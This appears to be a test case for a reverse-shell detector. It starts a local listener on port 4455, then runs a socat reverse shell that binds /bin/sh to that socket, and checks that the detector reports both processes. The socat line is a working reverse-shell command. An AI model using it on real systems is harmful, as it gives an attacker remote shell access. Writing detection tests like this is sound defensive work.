# R05b: socat with a socket pair
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 2
#   reverse_shell.process_list.0.process_id: $socat
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4455
#   reverse_shell.process_list.1.process_id: $shell

#: prepare
. lib/peers.sh
peer 4455
#: act
. lib/peers.sh
act
socat TCP:127.0.0.1:4455 EXEC:/bin/sh > /dev/null 2>&1 & fact socat $!
who shell /bin/sh
await 'at $shell 0 socket:* && same $shell 0 $shell 1 && ! same $shell 0 $socat 5'
